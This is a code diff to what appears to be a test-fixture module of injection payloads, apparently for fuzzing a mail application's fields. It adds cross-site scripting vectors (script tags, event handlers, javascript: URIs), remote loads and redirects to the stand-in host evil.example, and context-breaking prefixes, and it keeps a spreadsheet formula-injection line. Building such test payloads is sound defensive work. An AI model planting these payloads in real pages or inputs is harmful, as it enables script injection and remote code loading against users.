@@ -23,10 +23,53 @@ export const PAYLOADS: readonly string[] = [
   "=cmd|'/C calc'!A0",
 ];
 
+/** Ends of whatever a payload may stand in. */
+const ENDS = [
+  '',
+  '">',
+  "'>",
+  '</title>',
+  '</textarea>',
+  '</style>',
+  '-->',
+  '</script>',
+  '</bdi></q></p>',
+  '`>',
+  '" ',
+  "' ",
+];
+/** Markup that acts without anybody's doing, or when it is touched. */
+const ACTS = [
+  '<script>alert(1)</script>',
+  '<script src=//evil.example/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=//evil.example/x.png>',
+  '<svg onload=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<iframe src=javascript:alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video><source onerror=alert(1)></video>',
+  '<input autofocus onfocus=alert(1)>',
+  '<body onload=alert(1)>',
+  '<object data=//evil.example/x></object>',
+  '<embed src=//evil.example/x>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<style>@import "//evil.example/y.css"</style>',
+  '<meta http-equiv=refresh content="0;url=//evil.example/">',
+  '<base href=//evil.example/>',
+  'onerror=alert(1) x=',
+];
+/** All payloads, and each act behind each end. */
+export const MANY_PAYLOADS: readonly string[] = [
+  ...PAYLOADS,
+  ...ENDS.flatMap((end) => ACTS.map((act) => `${end}${act}`)),
+];
+
 /** One payload after the other, beginning with the `start`th. */
-export function inTurn(start: number): () => string {
+export function inTurn(start: number, payloads: readonly string[] = PAYLOADS): () => string {
   let next = start;
-  return () => PAYLOADS[next++ % PAYLOADS.length] ?? '';
+  return () => payloads[next++ % payloads.length] ?? '';
 }
 
 /** Fields that hold codes of ours rather than words of mail. */
